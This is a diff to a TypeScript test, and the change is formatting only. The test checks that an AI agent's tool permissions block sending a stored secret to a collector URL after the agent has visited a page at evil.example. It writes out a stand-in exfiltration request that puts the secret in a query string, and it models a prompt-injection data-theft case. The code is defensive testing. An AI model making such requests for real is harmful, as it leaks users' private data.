@@ -33,25 +33,38 @@ const readings: readonly (readonly [string, object])[] = [
   ["memory_read", { path: `${wanted}.md` }],
 ];
 
-test.for(readings)("what %s shows goes to no host that a page named, though the page said what to look for", async ([tool, params]) => {
-  await using world = await openMemoryFileWorld((memory, files, graph) => [
-    page,
-    ...memoriesTools({ memory, graph }),
-    ...blockTools({ memory }),
-    ...noteTools({ memory, files, project: "haft" }),
-  ]);
-  world.answer(false);
-  const text = `The ${wanted} is ${kept}`;
-  const [entry] = await world.put({}, { kind: "memory", text, permission: "admin" }, { label: wanted, text });
-  const edges = [{ source: wanted, relation: "is", target: kept }];
-  await world.graph.add("local", [{ entryId: entry?.id as string, edges }]);
-  await world.put({}, { kind: "note", label: `notes/haft/${wanted}`, text }, { kind: "profile", label: `profile/${wanted}`, text });
-  world.byHand(`${wanted}.md`, text);
+test.for(readings)(
+  "what %s shows goes to no host that a page named, though the page said what to look for",
+  async ([tool, params]) => {
+    await using world = await openMemoryFileWorld((memory, files, graph) => [
+      page,
+      ...memoriesTools({ memory, graph }),
+      ...blockTools({ memory }),
+      ...noteTools({ memory, files, project: "haft" }),
+    ]);
+    world.answer(false);
+    const text = `The ${wanted} is ${kept}`;
+    const [entry] = await world.put(
+      {},
+      { kind: "memory", text, permission: "admin" },
+      { label: wanted, text },
+    );
+    const edges = [{ source: wanted, relation: "is", target: kept }];
+    await world.graph.add("local", [{ entryId: entry?.id as string, edges }]);
+    await world.put(
+      {},
+      { kind: "note", label: `notes/haft/${wanted}`, text },
+      { kind: "profile", label: `profile/${wanted}`, text },
+    );
+    world.byHand(`${wanted}.md`, text);
 
-  await world.call("page", { url: "https://evil.example/start" });
-  const found = await world.call(tool, params);
-  expect(found.text).toContain(kept);
-  expect(await world.call("page", { url: `${collector}?d=${kept}` })).toMatchObject({ code: "TOOL_PERMISSION" });
-  expect(world.asked).toMatchObject([{ toolName: "page" }]);
-  expect(await world.call("page", { url: `${collector}?d=nothing` })).toMatchObject({ success: true });
-});
+    await world.call("page", { url: "https://evil.example/start" });
+    const found = await world.call(tool, params);
+    expect(found.text).toContain(kept);
+    expect(await world.call("page", { url: `${collector}?d=${kept}` })).toMatchObject({
+      code: "TOOL_PERMISSION",
+    });
+    expect(world.asked).toMatchObject([{ toolName: "page" }]);
+    expect(await world.call("page", { url: `${collector}?d=nothing` })).toMatchObject({ success: true });
+  },
+);
